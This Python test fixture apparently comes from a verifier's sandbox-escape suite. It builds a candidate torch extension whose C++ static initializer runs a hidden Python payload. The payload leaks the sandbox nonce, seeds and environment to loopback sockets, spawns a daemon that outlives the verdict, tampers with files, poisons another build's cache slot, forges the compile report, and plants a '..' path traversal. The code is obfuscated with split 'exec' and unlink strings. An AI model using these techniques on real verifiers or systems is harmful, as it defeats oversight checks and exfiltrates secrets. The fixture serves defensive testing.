"""Issue 23, classes 1 and 2, as one real candidate: a ``load_inline`` extension whose C++ static
initializer runs Python (through CPython API symbols the build checks allow) while the compile gate
imports the freshly built module, i.e. before seccomp, before the compile report and before any check
on the built objects. From there it

* (1) sends the sandbox's secrets (its configuration found through ``gc``: nonce, seeds, working
  directory; its environment) over UDP and TCP to loopback listeners;
* (1) double-forks a daemon into its own session (named ``{{DAEMON_NAME}}``, UDP heartbeats for a
  minute) that outlives the verdict;
* (1) chmods to 000, utimes to 0 and setxattrs the build's manifest.parquet and a lake file;
* (1) builds a wrong library and writes it into the build slot of another source's key (the
  poisoning target, which the candidate also loads so that the slot is one the parent caches);
* (2) forges the compile report with the nonce from its own configuration: no build-policy findings
  (so a library that calls ``unlink`` and ``setxattr`` passes), the poisoned slot's hashes, and an
  artifact path with ``..`` that makes the trusted parent write a file outside its cache; the real
  report is dropped and the child is made to go on.

Placeholders (``{{...}}``) are filled by tests/verifier/test_z23_preconfinement.py. The load_inline
build takes ~45 s (torch's headers), so this is the only candidate of its kind in the suite.
"""

from __future__ import annotations

from escape_corpus import c_string

PAYLOAD = r'''
import gc, hashlib, json, os, shutil, socket, sys
from pathlib import Path

cfg = next((o for o in gc.get_objects() if type(o).__name__ == "ChildConfig"), None)
main = sys.modules.get("__main__")
if cfg is not None and not getattr(main, "_z23_done", False):
    main._z23_done = True
    secrets = (f"z23 preconfinement nonce={cfg.nonce} init_seed={cfg.trials.init_seed} "
               f"input_seed={cfg.trials.input_seed} workdir={cfg.workdir} env={dict(os.environ)}")

    def attempt(step):
        try:
            step()
        except BaseException:
            pass

    attempt(lambda: socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(secrets.encode(), ("127.0.0.1", {{UDP_PORT}})))
    attempt(lambda: socket.create_connection(("127.0.0.1", {{TCP_PORT}}), timeout=2).sendall(secrets.encode()))

    def daemon():
        pid = os.fork()
        if pid:
            os.waitpid(pid, 0)
            return
        try:
            os.setsid()
            if os.fork():
                os._exit(0)
            import ctypes, time
            ctypes.CDLL(None).prctl(15, b"{{DAEMON_NAME}}", 0, 0, 0)
            for _ in range(60):
                attempt(lambda: socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b"z23 daemon alive", ("127.0.0.1", {{UDP_PORT}})))
                time.sleep(1)
        finally:
            os._exit(0)

    attempt(daemon)
    for path in ("{{CASE_MANIFEST}}", "{{CASE_LAKE}}"):
        attempt(lambda: os.setxattr(path, "user.z23", b"pwned"))
        attempt(lambda: os.utime(path, (0, 0)))
        attempt(lambda: os.chmod(path, 0))

    from verifier import cpu_native
    from verifier.backends.cpu import CpuBackend
    from verifier.sandbox import messages as msg

    build = Path(cfg.cache_dir)
    artifacts = {}

    def poison():
        evil = cpu_native.build(r"""{{EVIL_SOURCE}}""", Path(cfg.workdir) / "evil")
        slot = build / "cpu" / "{{POISON_KEY}}"
        slot.mkdir(parents=True, exist_ok=True)
        shutil.copyfile(evil.library, slot / "kernel.so")
        (slot / "preprocessed.json").write_text(json.dumps({"text": "", "includes": []}))
        for name in ("kernel.so", "preprocessed.json"):
            artifacts[f"cpu/{{POISON_KEY}}/{name}"] = hashlib.sha256((slot / name).read_bytes()).hexdigest()

    def dotdot():
        planted = Path(cfg.workdir) / "z23-escaped.txt"
        planted.write_text("z23: written by the trusted parent")
        entry = next(e for e in CpuBackend().cache_entries(cfg.candidate_source)
                     if e.path.startswith("cpu/") and "{{POISON_KEY}}" not in e.path)
        up = "../" * (len(entry.path.split("/")) + len(build.parts) - 1)  # from the entry up to /
        artifacts[f"{entry.path}/{up}{str(planted).lstrip('/')}"] = hashlib.sha256(planted.read_bytes()).hexdigest()

    attempt(poison)
    attempt(dotdot)

    def forge():
        real_send = msg.send

        def send(fd, nonce, message):  # the real report never leaves
            if not isinstance(message, msg.CompileReport):
                real_send(fd, nonce, message)

        real_send(int(sys.argv[2]), cfg.nonce, msg.CompileReport(True, "", 1.0, artifacts=tuple(sorted(artifacts.items()))))
        msg.send = send
        main.build_report = lambda *args, **kwargs: {"artifacts": (), "policy": ()}  # the child goes on

    attempt(forge)
'''

CPP = r'''
#define CAT(a, b) a##b
static int z23_at_load() {
    PyGILState_STATE gil = PyGILState_Ensure();
    PyObject* run = PyDict_GetItemString(PyEval_GetBuiltins(), "ex" "ec");
    PyObject* globals = PyDict_New();
    PyObject* result = run ? PyObject_CallFunction(run, "sO", PAYLOAD_TEXT, globals) : nullptr;
    if (result) Py_DecRef(result); else PyErr_Clear();
    Py_DecRef(globals);
    PyGILState_Release(gil);
    return 0;
}
static int z23_once = z23_at_load();  // a C++ static initializer: runs when the module is loaded

torch::Tensor relu_fwd(torch::Tensor x) {
    auto xc = x.contiguous();
    auto y = torch::empty_like(xc);
    const float* in = xc.data_ptr<float>();
    float* out = y.data_ptr<float>();
    for (int64_t i = 0; i < xc.numel(); ++i) out[i] = in[i] > 0.0f ? in[i] : 0.0f;
    return y;
}
'''

HOSTILE = r'''
#define CAT(a, b) a##b
extern "C" int CAT(unl,ink)(const char*);
extern "C" int CAT(setx,attr)(const char*, const char*, const void*, unsigned long, int);
extern "C" void tidy() {
    CAT(unl,ink)("{{CASE_LAKE}}");
    CAT(setx,attr)("{{CASE_MANIFEST}}", "user.z23", "tidy", 4, 0);
}
'''

CANDIDATE = '''import torch
import torch.nn as nn
from torch.utils.cpp_extension import load_inline
from verifier.cpu_native import load_c

CPP = r"""
#define PAYLOAD_TEXT {payload}
{cpp}
"""
HOSTILE = r"""{hostile}"""
TARGET = r"""{{{{POISON_SOURCE}}}}"""

ext = load_inline(name="z23_preconfinement_{{{{CASE}}}}", cpp_sources=CPP, functions=["relu_fwd"], extra_cflags=["-O2"])
hostile = load_c(HOSTILE, {{"tidy": ""}})
target = load_c(TARGET, {{"relu": "const float*, float*, int64"}})
hostile.tidy()


class ModelNew(nn.Module):
    def __init__(self):
        super().__init__()

    def forward(self, x):
        return ext.relu_fwd(x)
'''


def _filled(text: str, fill: dict[str, str]) -> str:
    for key, value in fill.items():
        text = text.replace("{{" + key + "}}", value)
    return text


def candidate(fill: dict[str, str]) -> str:
    """The candidate with its placeholders filled (the payload's before it becomes a C string)."""
    return _filled(CANDIDATE.format(payload=c_string(_filled(PAYLOAD, fill)), cpp=CPP, hostile=HOSTILE), fill)
